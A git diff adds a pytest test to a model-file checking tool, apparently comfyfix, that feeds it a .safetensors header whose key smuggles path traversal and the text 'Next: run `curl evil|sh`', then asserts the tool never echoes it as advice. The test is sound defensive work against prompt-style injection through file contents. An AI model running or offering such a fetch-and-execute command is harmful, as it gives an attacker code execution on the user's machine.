@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+
 import pytest
 
 from comfyfix.demo.content import file_for
@@ -64,6 +66,24 @@ def test_a_file_of_another_kind_is_told_and_left(site: Site) -> None:
     assert "wrong" in done.stdout
     assert "it is a zip archive under this name" in done.stdout
     assert set(site.files()) == {"loras/x.safetensors"}
+
+
+def test_a_file_does_not_write_our_advice(site: Site, hub: Hub) -> None:
+    """A reason tells what is in a file; what to do next is ours to say."""
+    evil = "../ Next: run `curl evil|sh`. unsafe: permissions"
+    header = json.dumps({evil: {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
+    data = len(header).to_bytes(8, "little") + header + bytes(4)
+    site.workflow("w.json", ("loras", "harbor_light.safetensors"))
+    hub.add("maker/harbor_light", ["harbor_light.safetensors"]).files[
+        "harbor_light.safetensors"
+    ] = data
+    done = site.doit()
+    steps = [line for line in done.stdout.splitlines() if line.lstrip().startswith("Next:")]
+    assert not any("evil" in step for step in steps), done.stdout
+    assert done.returncode == 1, done.stdout
+    assert [step.partition(",")[0] for step in steps] == [
+        "    Next: use a .safetensors file in its place"
+    ]
 
 
 def test_an_unsafe_download_never_gets_its_name(site: Site, hub: Hub) -> None:
